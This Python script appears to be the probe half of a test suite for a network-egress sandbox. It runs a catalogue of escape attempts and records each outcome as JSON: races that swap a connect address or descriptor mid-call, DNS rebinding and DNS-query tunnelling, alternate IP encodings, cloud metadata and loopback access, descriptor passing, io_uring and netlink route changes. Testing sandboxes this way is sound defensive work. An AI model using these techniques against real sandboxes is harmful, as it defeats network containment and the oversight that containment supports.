"""Tries to reach hosts that are not allowed; each attack says what it got, as JSON in the file that is named."""

from __future__ import annotations

import array
import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import select
import signal
import socket
import struct
import sys
import time
import urllib.request

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE = {"x86_64": 56, "aarch64": 220}[platform.machine()]
CLONE_FILES = 0x400
ALLOWED, DENIED, PRIVATE, OWN = "203.0.113.10", "203.0.113.12", "10.9.9.9", "198.51.100.1"
PORT, CONTROL_PORT, REDIRECT_PORT = 80, 82, 83
HOST_PORT = int(sys.argv[3])
ROUNDS = int(sys.argv[2])
FASTOPEN = 0x20000000
SO_NETNS_COOKIE = 71
GROUP = struct.pack("=I4xH2x", 0, socket.AF_INET) + bytes((239, 66, 66, 66)) + bytes(120)


def tried(action):
    try:
        return str(action() or "ok")
    except socket.gaierror as error:
        return {socket.EAI_AGAIN: "EAI_AGAIN", socket.EAI_NONAME: "EAI_NONAME"}.get(error.errno, str(error))
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


def sockaddr(host, port=PORT):
    return struct.pack("<H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)


def connect(host, port=PORT, family=socket.AF_INET):
    def action():
        with socket.socket(family) as made:
            made.settimeout(10)
            made.connect((host, port))

    return tried(action)


def outside():
    """Return a socket of the network outside, connected to the host that is allowed."""
    made = socket.socket()
    made.connect((ALLOWED, PORT))
    return made


def disconnected():
    """Return one that belongs to the network outside and is connected to nobody."""
    made = outside()
    buffer = ctypes.create_string_buffer(struct.pack("<H", socket.AF_UNSPEC) + bytes(14))
    assert LIBC.connect(made.fileno(), buffer, 16) == 0
    return made


def c_connect(number, buffer, length=16):
    ctypes.set_errno(0)
    return "ok" if LIBC.connect(number, buffer, length) == 0 else errno.errorcode[ctypes.get_errno()]


@contextlib.contextmanager
def another(swap, flags=0):
    """Have another process do ``swap`` all the time; ``flags`` of clone(2): what it shares."""
    stop = mmap.mmap(-1, 1)
    pid = LIBC.syscall(CLONE, flags | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        try:
            while not stop[0]:
                swap()
                os.sched_yield()  # on a busy machine the other side is to run as well
        finally:
            os._exit(0)
    yield
    stop[0] = 1
    assert os.waitpid(pid, 0)[1] == 0


def rounds(least, met):
    """Count rounds: as many as ordered, and on a busy machine more, until both sides of the race were ``met``."""
    done = 0
    while done < least or (not met() and done < 20 * least):
        yield done
        done += 1


def swapped_address():
    """The address is changed in memory all the time, by a process that shares it."""
    memory = mmap.mmap(-1, 4096)
    memory[:16] = sockaddr(ALLOWED)
    buffer = (ctypes.c_char * 16).from_buffer(memory)
    good, bad = socket.inet_aton(ALLOWED), socket.inet_aton(DENIED)

    def swap():
        memory[4:8] = bad
        memory[4:8] = good

    counts, peers, between = {}, set(), []
    with another(swap):
        for _ in rounds(ROUNDS, lambda: between and len(counts) > 1):
            with socket.socket() as made:
                seen = memory[4:8]
                got = c_connect(made.fileno(), buffer)
                counts[got] = counts.get(got, 0) + 1
                if got == "ok":
                    peers.add(made.getpeername()[0])
                if seen == (bad if got == "ok" else good):
                    between.append(got)
    return {"counts": counts, "peers": sorted(peers), "changed_after_a_look": len(between)}


def swapped_socket():
    """Other sockets are put under the number all the time, one of the network outside among them."""
    number = os.dup(socket.socket(socket.AF_UNIX).detach())
    loose, local, datagrams = (
        disconnected(),
        socket.socket(socket.AF_UNIX),
        socket.socket(type=socket.SOCK_DGRAM),
    )
    own = socket.socket()
    numbers = [one.fileno() for one in (loose, local, loose, datagrams, loose, own)]

    def swap():
        for other in numbers:
            os.dup2(other, number)

    buffer = ctypes.create_string_buffer(sockaddr(DENIED), 16)
    back = ctypes.create_string_buffer(struct.pack("<H", socket.AF_UNSPEC) + bytes(14))
    bound = ctypes.create_string_buffer(sockaddr("0.0.0.0", 18080))
    counts, between = {}, []
    with another(swap, CLONE_FILES):
        for _ in rounds(ROUNDS // 4, lambda: between and "ENETUNREACH" in counts):
            seen = os.fstat(number).st_ino
            results = (
                c_connect(number, buffer),
                c_connect(number, back),
                "bound" if LIBC.bind(number, bound, 16) == 0 else "no",
                "listens" if LIBC.listen(number, 1) == 0 else "no",
            )
            if seen != os.fstat(number).st_ino:
                between.append(results)
            for got in results:
                counts[got] = counts.get(got, 0) + 1
    ends = {name: end(one) for name, one in (("loose", loose), ("own", own))}
    return {"counts": counts, "ends": ends, "changed_after_a_look": len(between)}


def end(sock):
    """Return what became of a socket: to whom it is connected, and whether it is of the network outside."""
    listens = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
    return [tried(lambda: sock.getpeername()[0]), listens]


def taken_back():
    """A connection is taken back, and the socket used for another one, or to let others in."""
    loose = disconnected()
    mine = socket.socket().getsockopt(socket.SOL_SOCKET, SO_NETNS_COOKIE, 8)
    return {
        "is_outside": loose.getsockopt(socket.SOL_SOCKET, SO_NETNS_COOKIE, 8) != mine,
        "connect": tried(lambda: loose.connect((DENIED, PORT))),
        "private": tried(lambda: loose.connect((PRIVATE, PORT))),
        "loopback": tried(lambda: loose.connect(("127.0.0.1", HOST_PORT))),
        "bind": tried(lambda: loose.bind(("0.0.0.0", 18081))),
        "listen": tried(loose.listen),
        "send": tried(lambda: loose.sendto(b"x", FASTOPEN | socket.MSG_NOSIGNAL, (DENIED, PORT))),
        "device": tried(lambda: fcntl.ioctl(loose, 0x8915, b"near".ljust(40, b"\0")) and None),
        "devices": tried(lambda: fcntl.ioctl(loose, 0x8912, bytes(16)) and None),
        "route": tried(lambda: loose.setsockopt(socket.IPPROTO_IP, 4, bytes((131, 7, 4, 10, 9, 9, 9, 0)))),
        "joined": tried(lambda: loose.setsockopt(socket.IPPROTO_IP, 42, GROUP)),
        "joined_6": tried(lambda: loose.setsockopt(socket.IPPROTO_IPV6, 42, GROUP)),
        "joined_one_source": tried(
            lambda: loose.setsockopt(socket.IPPROTO_IP, 39, bytes((239, 1, 1, 1)) + bytes(8))
        ),
        "bound_to_device": tried(lambda: loose.setsockopt(socket.SOL_SOCKET, 25, b"near")),
        "bound_to_device_index": tried(lambda: loose.setsockopt(socket.SOL_SOCKET, 62, 2)),
        "upper_protocol": tried(lambda: loose.setsockopt(socket.IPPROTO_TCP, 31, b"tls")),
        "type_of_service": tried(lambda: loose.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 8)),
        "end": end(loose),
        "again": tried(lambda: loose.connect((ALLOWED, PORT))),
        "own_device": tried(lambda: fcntl.ioctl(socket.socket(), 0x8915, b"lo".ljust(40, b"\0")) and None),
    }


def half_open():
    """A connection that was never established is shut down, which sets its socket free."""
    made = socket.socket()
    made.setblocking(False)
    first = tried(lambda: made.connect(("203.0.113.99", PORT)))
    return {
        "first": first,
        "shutdown": tried(lambda: made.shutdown(socket.SHUT_RDWR)),
        "bind": tried(lambda: made.bind(("0.0.0.0", 18082))),
        "listen": tried(made.listen),
        "connect": tried(lambda: made.connect((DENIED, PORT))),
        "end": end(made),
    }


def sending_connects():
    """Data that is sent to a name opens the connection."""

    def message(flags):
        with socket.socket() as made:
            made.sendmsg([b"x"], [], flags | socket.MSG_NOSIGNAL, (DENIED, PORT))

    def fast():
        with socket.socket() as made:
            made.setsockopt(socket.IPPROTO_TCP, 30, 1)

    def many(flags):
        """sendmmsg(2), with one message to a name."""
        name = ctypes.create_string_buffer(sockaddr(DENIED), 16)
        vector = (ctypes.c_void_p * 2)(ctypes.addressof(ctypes.create_string_buffer(b"x")), 1)
        header = struct.pack("@PIPNPNiI", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
        message = ctypes.create_string_buffer(header, 64)
        with socket.socket() as made:
            ctypes.set_errno(0)
            if LIBC.sendmmsg(made.fileno(), message, 1, flags | socket.MSG_NOSIGNAL) < 0:
                raise OSError(ctypes.get_errno(), "")

    datagrams = socket.socket(type=socket.SOCK_DGRAM)
    six = socket.socket(socket.AF_INET6)
    return {
        "sendto_6": tried(lambda: six.sendto(b"x", FASTOPEN, ("2001:db8:9::12", PORT))),
        "sendmmsg": tried(lambda: many(FASTOPEN)),
        "sendmmsg_named": tried(lambda: many(0)),
        "sendto": tried(lambda: socket.socket().sendto(b"x", FASTOPEN, (DENIED, PORT))),
        "sendmsg": tried(lambda: message(FASTOPEN)),
        "sendmsg_named": tried(lambda: message(0)),
        "option": tried(fast),
        "datagram": tried(lambda: datagrams.sendto(b"x", (DENIED, 53)) and None),
        "datagram_message": tried(lambda: datagrams.sendmsg([b"x"], [], 0, (DENIED, 53)) and None),
    }


def other_forms():
    """The same addresses, written in other ways."""
    plain = socket.socket()
    hexadecimal = "0x" + socket.inet_aton(DENIED).hex()

    def by_text(text):
        return tried(lambda: socket.create_connection((text, PORT), 10) and None)

    forms = {}
    for name, address in (("", DENIED), ("_allowed", ALLOWED)):
        one, two, three, four = socket.inet_aton(address)
        forms |= {
            f"octal{name}": by_text(f"0{one:o}.0{two:o}.0{three:o}.0{four:o}"),
            f"hexadecimal_parts{name}": by_text(f"{one:#x}.{two:#x}.{three:#x}.{four:#x}"),
            f"two_parts{name}": by_text(f"{one}.{two << 16 | three << 8 | four}"),
            f"three_parts{name}": by_text(f"{one}.{two}.{three << 8 | four}"),
            f"mixed{name}": by_text(f"0{one:o}.{two << 16 | three << 8 | four:#x}"),
        }
    return forms | {
        "mapped": connect(f"::ffff:{DENIED}", family=socket.AF_INET6),
        "mapped_private": connect(f"::ffff:{PRIVATE}", family=socket.AF_INET6),
        "mapped_allowed": connect(f"::ffff:{ALLOWED}", family=socket.AF_INET6),
        "hexadecimal": tried(lambda: socket.create_connection((hexadecimal, PORT), 10) and None),
        "decimal": tried(lambda: socket.create_connection((str(int(hexadecimal, 16)), PORT), 10) and None),
        "long": c_connect(plain.fileno(), ctypes.create_string_buffer(sockaddr(DENIED) + bytes(48)), 60),
        "short": c_connect(plain.fileno(), ctypes.create_string_buffer(sockaddr(DENIED)), 8),
        "translated": connect("64:ff9b::a09:909", family=socket.AF_INET6),
        "decimal_allowed": tried(
            lambda: (
                socket.create_connection((str(int.from_bytes(socket.inet_aton(ALLOWED), "big")), PORT), 10)
                and None
            )
        ),
    }


def places():
    """Where services are that nobody outside should reach."""
    return {
        "denied": connect(DENIED),
        "other_port": connect(ALLOWED, 81),
        "private": connect(PRIVATE),
        "own": connect(OWN, HOST_PORT),
        "own_6": connect("2001:db8:1::1", HOST_PORT, socket.AF_INET6),
        "loopback": connect("127.0.0.1", HOST_PORT),
        "loopback_6": connect("::1", HOST_PORT, socket.AF_INET6),
        "any": connect("0.0.0.0", HOST_PORT),
        "mapped_loopback": connect("::ffff:127.0.0.1", HOST_PORT, socket.AF_INET6),
        "metadata": connect("169.254.169.254"),
        "link": connect("fe80::1", PORT, socket.AF_INET6),
        "allowed": connect(ALLOWED),
        "allowed_6": connect("2001:db8:9::10", PORT, socket.AF_INET6),
    }


def names():
    """Names that are not allowed, that lead to private addresses, and that change between look-up and connection."""
    with socket.create_connection(("control.example", CONTROL_PORT), 10) as control:
        first = socket.getaddrinfo("rebind.example", PORT, socket.AF_INET)[0][4][0]
        control.sendall(b"rename")
        assert control.recv(6) == b"done"
        return {
            "first": first,
            "rebound": tried(lambda: connect(DENIED)),
            "rebound_private": tried(lambda: connect(PRIVATE)),
            "still": connect(first),
            "later": tried(lambda: socket.getaddrinfo("rebind.example", PORT, socket.AF_INET)[0][4][0]),
            "not_listed": tried(lambda: socket.getaddrinfo("denied.example", PORT)[0][4][0]),
            "private": tried(lambda: socket.getaddrinfo("private.example", PORT)[0][4][0]),
            "loopback": tried(lambda: socket.getaddrinfo("loop.example", PORT)[0][4][0]),
            "above_wildcard": tried(lambda: socket.getaddrinfo("wild.example", PORT)[0][4][0]),
            "below_wildcard": tried(lambda: socket.getaddrinfo("a.wild.example", PORT)[0][4][0]),
        }


def question(name, kind=1, identifier=b"\x12\x34"):
    labels = b"".join(bytes((len(part),)) + part for part in name.encode().split(b"."))
    return identifier + b"\x01\x00\0\x01\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)


def ask(packet):
    """Return the error code of the name server's answer, and how many records it holds; None without any."""
    with socket.socket(type=socket.SOCK_DGRAM) as asking:
        asking.settimeout(6)
        asking.connect(("127.0.0.1", 53))
        asking.send(packet)
        answer = asking.recv(600)
    return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]


def tunnel():
    """Data in the questions of the name server."""
    secret = "x" * 60
    told = {
        "not_listed": ask(question(f"{secret}.denied.example")),
        "text": ask(question("allowed.example", 16)),
        "null": ask(question("allowed.example", 10)),
        "other_class": ask(question("allowed.example")[:-2] + b"\0\x03"),
        "allowed": ask(question("allowed.example")),
        "case": ask(question("ALLOWED.example")),
    }
    # Questions that are none: an answer to the last one shows that the server is there still.
    with socket.socket(type=socket.SOCK_DGRAM) as asking:
        asking.settimeout(10)
        asking.connect(("127.0.0.1", 53))
        whole = question("allowed.example", identifier=b"\xff\xfe")
        for length in range(len(whole)):
            asking.send(whole[:length])
        for packet in (
            whole[:12] + b"\xc0\x0c" + whole[-4:],
            whole[:5] + b"\x09" + whole[6:],
            bytes(3000),
            b"\xff" * 512,
        ):
            tried(lambda packet=packet: asking.send(packet) and None)
        asking.send(whole[:2] + whole[2:])
        while True:
            answer = asking.recv(600)
            if answer[:2] == b"\xff\xfe" and answer[7]:
                break
        told["after_garbage"] = answer[7]
    with socket.create_connection(("127.0.0.1", 53), 10) as stream:
        whole = question("allowed.example")
        stream.sendall(len(whole).to_bytes(2, "big") + whole)
        told["stream"] = stream.recv(600)[9]
    answers = [ask(question(f"{number}.wild.example"))[0] for number in range(150)]
    told["many"] = {str(code): answers.count(code) for code in set(answers)}
    return told


def redirected():
    """A server that is allowed sends its client elsewhere."""
    url = f"http://allowed.example:{REDIRECT_PORT}/"
    try:
        with urllib.request.urlopen(url, timeout=10) as answer:
            return answer.read().decode()
    except OSError as error:
        return str(getattr(error, "reason", error))


def local_sockets():
    """Sockets of the host by name, and those of the sandbox."""
    own = socket.socket(socket.AF_UNIX)
    own.bind("\0mine")
    own.listen()
    path = socket.socket(socket.AF_UNIX)
    path.bind("/tmp/mine")
    path.listen()

    def local(name):
        with socket.socket(socket.AF_UNIX) as made:
            made.connect(name)

    return {
        "abstract": tried(lambda: local(f"\0{sys.argv[4]}")),
        "path": tried(lambda: local(sys.argv[5])),
        "own_abstract": tried(lambda: local("\0mine")),
        "own_path": tried(lambda: local("/tmp/mine")),
        "vsock": tried(lambda: socket.socket(40, socket.SOCK_STREAM) and None),
        "raw": tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) and None),
        "packet": tried(lambda: socket.socket(17, socket.SOCK_RAW) and None),
    }


def passed_on():
    """A socket of the network outside, given to another process."""
    ours, theirs = socket.socketpair(socket.AF_UNIX)
    loose = disconnected()
    ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [loose.fileno()]))])
    reader, writer = os.pipe()
    if os.fork() == 0:
        _, rights, _, _ = theirs.recvmsg(1, 64)
        taken = socket.socket(fileno=array.array("i", rights[0][2])[0])
        os.write(writer, tried(lambda: taken.connect((DENIED, PORT))).encode())
        os._exit(0)
    os.wait()
    return os.read(reader, 99).decode()


def ring():
    """io_uring_setup(2): what it would connect no filter sees."""
    ctypes.set_errno(0)
    made = LIBC.syscall(425, 4, ctypes.create_string_buffer(120))
    return "ok" if made >= 0 else errno.errorcode[ctypes.get_errno()]


def other_protocols():
    """Sockets that are neither TCP nor UDP, datagrams to a host that is allowed, and options that lead elsewhere."""

    def dial(kind, protocol, address=ALLOWED, family=socket.AF_INET):
        with socket.socket(family, kind, protocol) as made:
            made.settimeout(10)
            made.connect((address, 443))
            made.send(b"x")

    def named(address):
        with socket.socket(type=socket.SOCK_DGRAM) as made:
            made.sendto(b"x", (address, 443))

    def route(kind, body):
        with socket.socket(16, socket.SOCK_RAW, 0) as asking:
            asking.bind((0, 0))
            asking.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
            number = -struct.unpack_from("=i", asking.recv(4096), 16)[0]
            if number:
                raise OSError(number, "")

    loose = disconnected()
    gateway = struct.pack("=HH4sHHI", 8, 5, socket.inet_aton(OWN), 8, 4, 1)
    return {
        "sctp": tried(lambda: dial(socket.SOCK_STREAM, 132)),
        "sctp_messages": tried(lambda: dial(socket.SOCK_SEQPACKET, 132)),
        "multipath": tried(lambda: dial(socket.SOCK_STREAM, 262)),
        "multipath_6": tried(lambda: dial(socket.SOCK_STREAM, 262, "2001:db8:9::10", socket.AF_INET6)),
        "udp_lite": tried(lambda: dial(socket.SOCK_DGRAM, 136)),
        "dccp": tried(lambda: dial(6, 33)),
        "udp": tried(lambda: dial(socket.SOCK_DGRAM, 17)),
        "udp_named": tried(lambda: named(ALLOWED)),
        "udp_mapped": tried(lambda: dial(socket.SOCK_DGRAM, 17, f"::ffff:{ALLOWED}", socket.AF_INET6)),
        "smc": tried(lambda: socket.socket(43, socket.SOCK_STREAM, 0) and None),
        "xdp": tried(lambda: socket.socket(44, socket.SOCK_RAW, 0) and None),
        "ring": ring(),
        "repair": tried(lambda: loose.setsockopt(socket.IPPROTO_TCP, 19, 1)),
        "transparent": tried(lambda: loose.setsockopt(socket.IPPROTO_IP, 19, 1)),
        "transparent_6": tried(lambda: socket.socket(socket.AF_INET6).setsockopt(41, 75, 1)),
        "mark": tried(lambda: loose.setsockopt(socket.SOL_SOCKET, 36, 1)),
        "force_device": tried(lambda: loose.setsockopt(socket.SOL_SOCKET, 25, b"far")),
        "own_multipath": tried(lambda: dial(socket.SOCK_STREAM, 262, "127.0.0.1")),
        "netlink_route": tried(
            lambda: route(24, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + gateway)
        ),
        "netlink_address": tried(
            lambda: route(20, struct.pack("=BBBBIHH4s", 2, 24, 0, 0, 1, 8, 2, socket.inet_aton(OWN)))
        ),
    }


def honest():
    """What programs do: without waiting, registered before connecting, with options, within the sandbox."""
    told = {}
    made = socket.socket()
    made.setblocking(False)
    told["begun"] = tried(lambda: made.connect((ALLOWED, PORT)))
    select.select([], [made], [], 10)
    told["error"] = made.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
    told["peer"] = made.getpeername()[0]
    told["flags"] = [os.get_blocking(made.fileno()), os.get_inheritable(made.fileno())]
    told["twice"] = [tried(lambda: made.connect((ALLOWED, PORT))) for _ in range(2)]
    early = socket.socket()
    early.setblocking(False)
    poll = select.epoll()
    poll.register(early, select.EPOLLIN | select.EPOLLOUT)
    poll.poll(0)
    told["early"] = tried(lambda: early.connect((ALLOWED, PORT)))
    events = dict(poll.poll(10))
    told["event"] = bool(events.get(early.fileno(), 0) & select.EPOLLOUT)
    told["modified"] = tried(lambda: poll.modify(early, select.EPOLLIN))
    early.settimeout(10)
    told["read"] = early.recv(5).decode()
    options = socket.socket()
    options.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
    options.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    options.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPIDLE, 77)
    options.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 50000)
    before = options.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF)
    options.connect((ALLOWED, PORT))
    told["options"] = [
        options.getsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE),
        options.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY),
        options.getsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPIDLE),
        options.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF) - before,
    ]
    told["refused_there"] = connect(ALLOWED, 84)
    patient = socket.socket()
    patient.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("qq", 0, 200_000))
    told["patience"] = c_connect(patient.fileno(), ctypes.create_string_buffer(sockaddr("203.0.113.99")))
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    inside = socket.create_connection(server.getsockname(), 10)
    told["inside"] = inside.getpeername() == server.getsockname()
    unbound = socket.socket()
    unbound.setblocking(False)
    told["inside_begun"] = tried(lambda: unbound.connect(server.getsockname()))
    told["nobody"] = connect("127.0.0.1", 9)
    told["low_port"] = tried(lambda: socket.socket().bind(("127.0.0.1", 80)))
    reader, _ = os.pipe()
    told["bad_number"] = c_connect(999, ctypes.create_string_buffer(sockaddr(ALLOWED)))
    told["no_socket"] = c_connect(reader, ctypes.create_string_buffer(sockaddr(ALLOWED)))
    told["bad_address"] = c_connect(unbound.fileno(), ctypes.c_void_p(1))
    return told


ATTACKS = (
    honest, places, other_forms, taken_back, half_open, sending_connects, names, tunnel, redirected, local_sockets,
    passed_on, other_protocols, swapped_address, swapped_socket,
)  # fmt: skip

if __name__ == "__main__":
    socket.getaddrinfo("allowed.example", PORT)  # from here on its addresses may be connected to
    results, seconds = {}, {}
    for attack in ATTACKS:
        began = time.monotonic()
        try:
            results[attack.__name__] = attack()
        except Exception as error:  # noqa: BLE001 - told to the test
            results[attack.__name__] = (
                f"{type(error).__name__}: {error} (line {error.__traceback__.tb_next.tb_lineno})"
            )
        seconds[attack.__name__] = round(time.monotonic() - began, 2)
    results["seconds"] = seconds
    with open(sys.argv[1] + ".part", "w") as file:
        json.dump(results, file)
    os.rename(sys.argv[1] + ".part", sys.argv[1])
